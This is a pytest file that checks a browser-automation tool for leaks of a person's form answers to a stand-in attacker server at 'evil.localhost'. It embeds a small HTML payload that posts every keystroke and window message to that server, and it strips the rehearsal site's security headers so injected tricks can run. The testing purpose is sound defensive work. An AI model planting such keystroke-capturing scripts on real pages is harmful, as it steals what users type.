"""Tricks of a page's own script: what was typed does not reach the foreign server, whose own log says so."""

from __future__ import annotations

import time
from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest
from playwright.sync_api import Browser, Error, Page

from leaks.tricks import BY_FORM, BY_SCRIPT, WORKER, script_of
from pouce.browser.launch import OpenBrowser, open_browser
from pouce.demo.places import hosts_of
from pouce.errors import InputError, Stop
from pouce.flow.library import GUIDE
from pouce.human import Turn
from pouce.journal.cleaner import Cleaner
from pouce.journey import Journey
from pouce.person import Person
from pouce.rehearsal import Rehearsal
from pouce.rehearsal.pages import static
from pouce.rehearsal.stand_in import StandIn

MARIE = Person.from_file(Path(__file__).parents[2] / "fixtures" / "persons" / "marie.yaml")
CLEANER = Cleaner(MARIE)

LISTENING = b"""<!doctype html><input oninput="fetch('/got', { method: 'POST', body: this.value })">
<script>
document.querySelector('input').focus();
addEventListener('message', (event) => fetch('/got', { method: 'POST', body: event.data }));
</script>"""


class Foreign(ThreadingHTTPServer):
    """A server that belongs to somebody else and keeps every byte that it is sent."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Keeping)
        self.got: list[bytes] = []

    @property
    def origin(self) -> str:
        """Where it is."""
        return f"http://evil.localhost:{self.server_port}"

    @property
    def copies(self) -> int:
        """How many copies of answers it was sent."""
        return sum(CLEANER.traces(data) for data in self.got)


class Keeping(BaseHTTPRequestHandler):
    """Keeps a request, and shows a page that sends on every key and message."""

    server: Foreign

    def do_GET(self) -> None:
        """Keep it."""
        body = self.rfile.read(int(self.headers["Content-Length"] or 0))
        self.server.got.append(f"{self.requestline}\n{self.headers}\n".encode() + body)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(LISTENING)

    do_POST = do_GET  # noqa: N815  as the server wants it

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture(autouse=True)
def _without_a_policy(monkeypatch: pytest.MonkeyPatch) -> None:
    """The rehearsal site's own policy would hold these tricks back. A worker of theirs is among its files."""
    monkeypatch.setattr("pouce.rehearsal.app.HEADERS", {})
    monkeypatch.setattr("pouce.rehearsal.app.FILE_HEADERS", {"Service-Worker-Allowed": "/"})
    monkeypatch.setattr("pouce.rehearsal.app.static", lambda name: WORKER if name == "worker.js" else static(name))


@pytest.fixture
def foreign() -> Iterator[Foreign]:
    """The foreign server, in a thread."""
    with Foreign() as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


@pytest.fixture(scope="module")
def locked() -> Iterator[OpenBrowser]:
    """A browser as Pouce opens it: the hosts of the rehearsal resolve, and no other."""
    with Rehearsal() as site:
        hosts = hosts_of(site)
    with open_browser(headed=False, hosts=hosts, language="fr") as opened:
        yield opened


class Impatient:
    """Plays the person through the stand-in, and stops when a page does not go on: a trick may spoil it for good."""

    def __init__(self, stand_in: StandIn) -> None:
        self.tell = stand_in.tell
        self.until = time.monotonic() + 20
        self._stand_in = stand_in

    def take_turn(self, turn: Turn, page: Page) -> None:
        """Take a turn, and leave it where a trick moves the page away under the mouse."""
        with suppress(Error):
            self._stand_in.take_turn(turn, page)

    def check(self) -> None:
        """Stop when it takes too long."""
        if time.monotonic() > self.until:
            raise Stop("it does not go on")


def play(browser: Browser, foreign: Foreign, trick: str, stage: int) -> None:
    """Play a stage on pages with a trick."""
    # What plays the person refuses a foreign window as soon as it opens, be it the last thing that is heard.
    with suppress(InputError), Rehearsal() as site, browser.new_context(locale="fr-FR") as context:
        context.add_init_script(script_of(trick, foreign.origin))
        journey = Journey(site, context.new_page(), person=MARIE, language="fr", human=Impatient)
        journey.begin_at(stage)
        with suppress(InputError):
            journey.play(GUIDE[stage - 1])
        context.pages[0].wait_for_timeout(100)


def of_which(tricks: dict[str, str], quick: set[str]) -> list[object]:
    """Each trick at the first two stages; those by default that are named, at the second."""
    return [
        pytest.param(trick, stage, marks=() if stage == 2 and trick in quick else pytest.mark.sweep)
        for trick in tricks
        for stage in (1, 2)
    ]


@pytest.mark.parametrize(
    ("trick", "stage"), of_which(BY_FORM, {"a copy that is sent", "the focus jumps into a foreign frame"})
)
def test_forms_send_nothing_elsewhere(browser: Browser, foreign: Foreign, trick: str, stage: int) -> None:
    """On a browser that reaches every address, no form and no jump of the focus brings an answer to a foreign one."""
    play(browser, foreign, trick, stage)

    assert foreign.copies == 0


@pytest.mark.parametrize(("trick", "stage"), of_which({**BY_FORM, **BY_SCRIPT}, set()))
def test_locked_hosts_hold_back_every_script(locked: OpenBrowser, foreign: Foreign, trick: str, stage: int) -> None:
    """On a browser as Pouce opens it, nothing at all reaches the foreign server, whatever a script does."""
    play(locked.browser, foreign, trick, stage)

    assert foreign.got == []


@pytest.mark.sweep
@pytest.mark.parametrize("trick", BY_SCRIPT)
def test_the_tricks_work(browser: Browser, foreign: Foreign, trick: str) -> None:
    """On a browser that reaches every address each script does bring an answer away: the locked hosts are needed."""
    play(browser, foreign, trick, 2)

    assert foreign.copies > 0
